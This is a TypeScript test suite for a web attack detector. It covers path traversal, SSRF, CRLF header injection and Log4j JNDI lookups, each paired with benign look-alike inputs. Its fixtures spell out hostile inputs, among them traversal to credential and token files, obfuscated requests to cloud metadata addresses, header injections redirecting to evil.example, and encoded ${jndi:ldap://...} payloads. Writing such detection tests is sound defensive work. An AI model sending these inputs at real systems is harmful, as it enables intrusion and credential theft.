// Technique classes of the smaller categories (path traversal and file probes, SSRF, CRLF/header
// injection, JNDI/Log4j lookups), each with look-alike ordinary input that must stay silent.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createDetector } from '@secotel/detect';
import type { Category, DetectRequest, Finding } from '@secotel/detect';

const level1 = createDetector();
const level2 = createDetector({ level: 2 });

type Where = (value: string) => DetectRequest;
const inQuery: Where = (value) => ({ method: 'GET', path: '/search', query: { q: value } });
const inPath: Where = (path) => ({ method: 'GET', path });
const inHeader: Where = (value) => ({ method: 'GET', path: '/', headers: { 'user-agent': value } });
const inCookie: Where = (value) => ({ method: 'GET', path: '/', cookies: { pref: value } });
const inJson: Where = (value) => ({ method: 'POST', path: '/api/items', body: { note: value } });
const inUploadName: Where = (value) => ({
  method: 'POST',
  path: '/upload',
  contentType: 'multipart/form-data; boundary=b2',
  body: `--b2\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\nContent-Type: image/png\r\n\r\nxx\r\n--b2--\r\n`,
});
const inForm: Where = (text) => ({
  method: 'POST', path: '/submit', body: text, headers: { 'content-type': 'application/x-www-form-urlencoded' },
});
const inKey: Where = (key) => ({ method: 'GET', path: '/search', query: { [key]: 'x' } });

function describeFindings(findings: Finding[]): string {
  return JSON.stringify(findings.map((f) => `${f.rule.id} ${f.location}`));
}

function assertFound(category: Category, values: readonly string[], where: Where = inQuery, detector = level1): void {
  for (const value of values) {
    const findings = detector.detect(where(value));
    assert.ok(findings.some((f) => f.rule.category === category),
      `expected ${category} in ${JSON.stringify(value)}, got ${describeFindings(findings)}`);
  }
}

function assertSilent(category: Category, values: readonly string[], where: Where = inQuery, detector = level1): void {
  for (const value of values) {
    const findings = detector.detect(where(value)).filter((f) => f.rule.category === category);
    assert.deepEqual(findings.map((f) => `${f.rule.id} ${f.fragment}`), [], `unexpected ${category} in ${JSON.stringify(value)}`);
  }
}

describe('path traversal techniques', () => {
  it('finds a single backslash climb, and an upload file name that is only a climb', () => {
    assertFound('path_traversal', ['..\\private\\keys.txt', 'docs\\..\\..\\secret', 'img\\..\\x']);
    assertFound('path_traversal', ['../invoice-2019.pdf', '/../backup.tar'], inUploadName);
    // In a JSON field the same value may be a relative link.
    assertSilent('path_traversal', ['../invoice-2019.pdf'], inJson);
  });

  it('finds climbs padded with empty, dot or overlong segments', () => {
    assertFound('path_traversal', ['/./../config', '//../target', '////../x', `/${'q'.repeat(200)}/../x`, 'a/./../b']);
  });

  it('finds triple-dot climbs, NUL-cut extensions and overlong UTF-8', () => {
    assertFound('path_traversal', ['.../.../boot.ini', '/.../data', 'images/../x.php\u0000.png', '..%uEFC8..%uEFC8data', '..%u2216secret']);
    // qs leaves undecodable escapes as they are; the overlong dots and slash arrive encoded.
    assertFound('path_traversal', ['%c0%ae%c0%ae%c0%afsecret', '..%c0%af..%c0%afdata']);
  });

  it('finds a single climb in a custom header and dots written as hex literals', () => {
    assertFound('path_traversal', ['/../admin/users'], (value) => ({ method: 'GET', path: '/', headers: { 'x-original-url': value } }));
    assertFound('path_traversal', ['/0x2e0x2e/0x2e0x2e/etc/issue', '/..0x5c..0x5cboot.ini']);
  });

  it('finds UNC paths to administrative shares, and other shares at level 2', () => {
    assertFound('path_traversal', ['\\\\::1\\c$\\users\\default\\ntuser.dat', '\\\\10.1.1.1\\admin$\\', '\\\\srv\\ipc$']);
    assertFound('path_traversal', ['/\\\\127.0.0.1\\c$\\x'], inPath);
    assertSilent('path_traversal', ['\\\\fileserver\\docs\\report.xlsx', 'C:\\Users\\jane']);
    assertFound('path_traversal', ['\\\\fileserver\\docs\\report.xlsx'], inQuery, level2);
  });

  it('finds a climb in an upload file name', () => {
    const body = '--b1\r\nContent-Disposition: form-data; name="f"; filename="..\\..\\run.sh"\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b1--\r\n';
    assertFound('path_traversal', [body], (text) => ({
      method: 'POST', path: '/upload', body: text, headers: { 'content-type': 'multipart/form-data; boundary=b1' },
    }));
  });

  it('finds system files by name: accounts, /proc and /sys entries, Windows and framework configuration', () => {
    assertFound('path_traversal', ['/etc/subgid', 'less /etc/gshadow', '/proc/net/arp', '/proc/self/environ',
      '/proc/sys/kernel/core_pattern', '/sys/kernel/debug', 'c:\\windows\\panther\\unattend.xml', 'C:/boot.ini',
      'WEB-INF/classes/app.properties', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/etc/nginx/nginx.conf',
      '/var/www/html/wp-config.php', 'C:\\xampp\\apache\\logs\\error.log', '/home/u/.bash_profile', '~/.ssh']);
    assertFound('path_traversal', ['/proc/cpuinfo', '/proc/net/tcp6'], inHeader);
  });

  it('finds dotfiles and editor, IDE and coding-agent folders in path-like values', () => {
    assertFound('path_traversal', ['/srv/app/.git/HEAD', 'deploy/.env.production', '../.zsh_history', '/home/u/.kube/config',
      '.vscode/launch.json', 'repo/.idea/workspace.xml', '/work/.claude/settings.local.json', 'x/.cursor/mcp.json',
      '/opt/site/.htpasswd', 'web.config.bak/../web.config']);
  });

  it('finds a value that is only a sensitive file name', () => {
    assertFound('path_traversal', ['.env', '.htpasswd', 'web.config', 'boot.ini', '.git', '.bash_history']);
    assertSilent('path_traversal', ['my.env', 'report.env.example', '.envoy', 'john.doe@example.com', '3.14', 'www.example.com',
      'notes about .env files']);
  });

  it('finds scanner probes for dumps, logs, backups and agent folders in the request path', () => {
    assertFound('scanner', ['/db_backup.sql.gz', '/dump.sql.tar.gz', '/logs/php_errors.log', '/wp-content/debug.log',
      '/settings.php.bak', '/index.php~', '/.aider.conf.yml', '/.windsurf/rules.md', '/WEB-INF/web.xml'], inPath);
  });

  it('stays silent on relative links in prose, ordinary paths and file names', () => {
    assertSilent('path_traversal', ['../images/logo.png', 'see ../images/logo.png for the logo', '/home/user/../shared/file.txt',
      'report.env.example', 'edit your .env file and restart', 'open .vscode/settings.json in the editor',
      'C:\\Windows\\System32\\ntdll.dll', 'C:\\Program Files\\App\\app.exe crashed at 0x7ff', '/api/proc/stat',
      'Wait.../...', 'so... / and then', 'https://example.com/a/../b', 'id_rsa.pub is the public half',
      'edit /etc/nginx/nginx.conf and reload', 'x/etc/y', 'FHFU[I[\'=\\]=-]L;/...']);
    assertSilent('path_traversal', ['/.well-known/security.txt', '/.github/workflows', '/static/app.sql.js', '/blog/.net-tips'], inPath);
    assertSilent('scanner', ['/.well-known/security.txt', '/docs/sql', '/downloads/schema.sql', '/static/app.sql.js', '/catalog/old'], inPath);
  });
});

describe('ssrf techniques', () => {
  it('finds internal hosts without a scheme at the start of a value', () => {
    assertFound('ssrf', ['localhost/admin', 'localhost:8080', 'host.docker.internal/', 'gateway.docker.internal:2375/v1',
      'kubernetes.default.svc.cluster.local/api', 'ip6-localhost/', '127.0.0.1:6379', '[::1]:22/', '169.254.169.254/latest/']);
    assertFound('ssrf', ['url=localhost%2Fhealth'], inForm);
  });

  it('finds WHATWG shorthands: no slashes, backslashes, any scheme with an authority', () => {
    assertFound('ssrf', ['http:127.0.0.1/', 'https:0x7f.1/', 'http:\\\\127.0.0.1\\x', 'rtmp://127.0.0.1/live',
      'acap://10.0.0.7/', 'redis://localhost:6379', 'jdbc:mysql://localhost:3306/db']);
  });

  it('finds parser confusion with userinfo, fragments and resolver tricks', () => {
    assertFound('ssrf', ['http://trusted.example@127.0.0.1/', 'http://127.0.0.1#@trusted.example', 'http://trusted.example\\@10.1.2.3/',
      'http://a.example:80 &@192.168.0.9:22/', 'http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/']);
  });

  it('finds obfuscated addresses: ideographic dots, enclosed digits, overflow, IPv6 forms', () => {
    assertFound('ssrf', ['http://127。0。0。1/', 'http://①⑨②.①⑥⑧.⓪.①/', 'http://4294967297/', 'http://0x1000000007f000001/',
      'http://425.510.425.510/', 'http://[::ffff:7f00:1]/', 'http://[0:0:0:0:0:ffff:127.0.0.1]/', 'http://[::]:80/',
      'http://192.0.0.192/latest/', 'http://rancher-metadata/']);
  });

  it('reports a local URL inside prose only at level 2', () => {
    assertSilent('ssrf', ['http://localhost:3000 refused to connect', 'the dashboard at http://10.0.0.8:9000/ is down']);
    assertFound('ssrf', ['http://localhost:3000 refused to connect'], inQuery, level2);
    assertFound('ssrf', ['http://127.0.0.1:8080/admin', 'see http://169.254.169.254/latest/meta-data/ now']);
  });

  it('stays silent on prose, CIDR blocks, dates and public URLs', () => {
    assertSilent('ssrf', ['localhost', 'could not connect to localhost:5432', 'Error: connect ECONNREFUSED 127.0.0.1:5432',
      '10.0.0.0/8', '192.168.1.0/24, 10.0.0.0/8', '10.12.2024/notes', 'metadata/items', 'https://example.com/a@b',
      'https://user:pass@example.com/', 'see http: docs at bob@10.0.0.1', 'time 10:30', 'mailto:ops@localhost',
      'version 1.2.3.4/5']);
  });
});

describe('crlf techniques', () => {
  it('finds a request or status line after a break, and a parameter that is a request line', () => {
    assertFound('crlf', ['v=%0aPUT /admin HTTP/1.1', 'v=x%0dOPTIONS * HTTP/1.0', 'v=ok%0d%0a%0d%0aHTTP/1.1 302 Found'], inForm);
    assertFound('crlf', ['DELETE /users/7 HTTP/1.1', '\r\nGET http://intranet/ HTTP/1.1']);
  });

  it('finds request headers and X- headers after a break in query values and cookies', () => {
    assertFound('crlf', ['a\r\nX-Trace: 1', '\nRemote-IP: 10.0.0.1', 'b\r\n\tSet-Cookie: s=1', 'c\r\nHost: evil.example',
      'd\r\nLocation: //evil.example', 'e\rContent-Length: 0']);
    assertFound('crlf', ['en\r\nSet-Cookie: role=admin', '/home\r\nLocation: https://evil.example/'], inCookie);
  });

  it('finds line breaks in parameter names and double-encoded breaks before any header', () => {
    assertFound('crlf', ['name\r\n', 'a\nb'], inKey);
    // Still encoded after the server decoded the query once: %250d%250a on the wire.
    assertFound('crlf', ['x%0d%0aAnything: 1', 'y%0AWhatever:2']);
  });

  it('finds injected header lines in an XML attribute', () => {
    assertFound('crlf', ['<r><a v="ok&#13;&#10;Content-Type: text/html&#13;&#10;&#13;&#10;&lt;b&gt;"/></r>'], (text) => ({
      method: 'POST', path: '/x', body: text, headers: { 'content-type': 'application/xml' },
    }));
  });

  it('stays silent on textarea text, notes and posts that quote HTTP', () => {
    assertSilent('crlf', ['Hi team,\r\nLocation: Berlin office\r\nDate: Monday', 'Meeting\r\nLocation: Berlin',
      'Agenda:\nHost: John Smith', 'x\r\nX-ray: fine', 'E-mail: a@b.example\r\nCheck-in: 3pm', 'hello\nworld',
      'line1\r\n\r\nline2', 'HTTP/2 is faster than HTTP/1.1', 'get a /free/ http/2 upgrade']);
    assertSilent('crlf', ['first line\nsecond line', 'a%0Ab'], inCookie);
    assertSilent('crlf', ['Here is the response:\nHTTP/1.1 200 OK\nContent-Type: text/html\nServer: nginx\n\nbody',
      '# Title\n\n```\nGET / HTTP/1.1\nHost: example.com\n```\n'], inJson);
  });
});

describe('jndi techniques', () => {
  it('finds lookups whose $ or braces are entity-, JSON- or URL-encoded', () => {
    assertFound('jndi', ['&#36;{jndi:ldap://x.example/a}', '&dollar;&lcub;jndi:rmi://x.example/a}', '$\\u007bjndi:dns://x.example}',
      '\\u0024\\u007bjndi:ldap://x.example/a}', '&#x24;&#0000000000000000123;jndi:ldap://x.example/a}', '${&#106;ndi:ldap://x.example/a}']);
  });

  it('finds lookups assembled from defaults, case lookups, Base64 and broken braces', () => {
    assertFound('jndi', ['${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}', '${${env:NOPE:-j}ndi:ldap://x.example/a}',
      '${${sys:nope:-j}ndi:iiop://x.example/a}', '${${lower:${upper:j}}ndi:ldap://x.example/a}', '${${::-j}nd${upper:ı}:ldap://x.example/a}',
      '${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}', '${:7:-q$}{jndi:ldap://x.example/a}',
      '$${env:a:-${env:b:-$}{jndi:ldap://x.example/a}}}']);
  });

  it('finds Log4j-only lookups without jndi and, at level 2, templating-style probes', () => {
    assertFound('jndi', ['${ctx:loginId}', '${java:version}', '${main:0}', '${sys:user.home:-x}'], inHeader);
    assertFound('jndi', ['${env:AWS_SECRET_ACCESS_KEY}', '${lower:x}'], inHeader, level2);
  });

  it('stays silent on templates, shell defaults and prices', () => {
    assertSilent('jndi', ['Hello ${name}, you have ${count} items', '${HOME:-/root}', '${env:HOME}', 'costs $5 {approx}',
      'AT&T {"a":1}', 'Tom &amp; Jerry', 'jndi:ldap is a Java feature']);
  });
});
